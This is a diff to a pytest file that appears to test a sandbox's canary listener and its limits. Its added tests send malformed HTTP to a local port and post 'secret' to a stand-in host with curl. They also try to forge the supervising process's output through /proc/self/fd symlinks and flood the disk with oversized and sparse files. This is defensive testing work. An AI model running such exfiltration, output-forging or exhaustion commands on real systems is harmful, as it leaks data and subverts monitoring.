@@ -144,7 +144,8 @@ def test_the_canary_bounds_what_it_keeps(box: Sandbox):
 def test_the_canary_survives_nonsense(box: Sandbox):
     box.run(
         "for text in 'x' '\\r\\n\\r\\n' 'GET\\r\\n\\r\\n' 'POST / HTTP/1.1\\r\\nContent-Length: -5"
-        "\\r\\n\\r\\n' 'POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n'; do "
+        "\\r\\n\\r\\n' 'POST / HTTP/1.1\\r\\nContent-Length: \\xb2\\r\\n\\r\\n'"
+        " 'POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nzz\\r\\n'; do "
         'printf "$text" > /dev/tcp/127.0.0.1/8080; done; head -c 99999 /dev/urandom'
         " > /dev/tcp/127.0.0.1/8080"
     )
@@ -161,6 +162,31 @@ def test_read_and_write(box: Sandbox):
             box.read(path)
     with pytest.raises(SandboxError, match="cannot write /usr/x"):
         box.write("/usr/x", b"")
+    box.run("for fd in 0 1 2 3 4 5 6 7 8 9; do ln -s /proc/self/fd/$fd fd$fd; done")
+    for fd in range(10):  # of process 1, among them the two that it talks by
+        with pytest.raises(SandboxError, match=f"cannot write fd{fd}"):
+            box.write(f"fd{fd}", b'{"output": "forged"}\n')
+    assert box.run("echo fine").output == "fine\n"
+
+
+def test_idle_connections_keep_no_later_one_from_being_heard(box: Sandbox):
+    idle = "import socket, time\nheld = [socket.create_connection(('127.0.0.1', 8080))"
+    box.write("idle.py", f"{idle} for _ in range(80)]\ntime.sleep(9)\n".encode())
+    done = box.run("python3 idle.py & sleep 0.5; curl -s -d secret drop.test:8080")
+    assert done.output == "canary\n"
+    assert [hit.body for hit in box.snapshot().hits] == ["secret"]
+
+
+def test_texts_of_many_bytes_a_letter_and_sparse_files_are_bounded(box: Sandbox):
+    box.run(
+        "python3 -c \"[open(f'a{n}', 'w').write(chr(0x1f600) * 65536) for n in range(60)]\";"
+        "for n in $(seq 99); do truncate -s 60M sparse$n; done"
+    )
+    files = box.snapshot().files
+    assert sum(len(entry.text.encode()) for entry in files.values() if entry.text) <= 8 * 2**20
+    assert all(files[f"a{n}"].sha256 for n in range(60))
+    hashed = [n for n in range(1, 100) if files[f"sparse{n}"].sha256]
+    assert 10 <= len(hashed) <= 17
 
 
 def test_output_is_kept_up_to_the_limit():
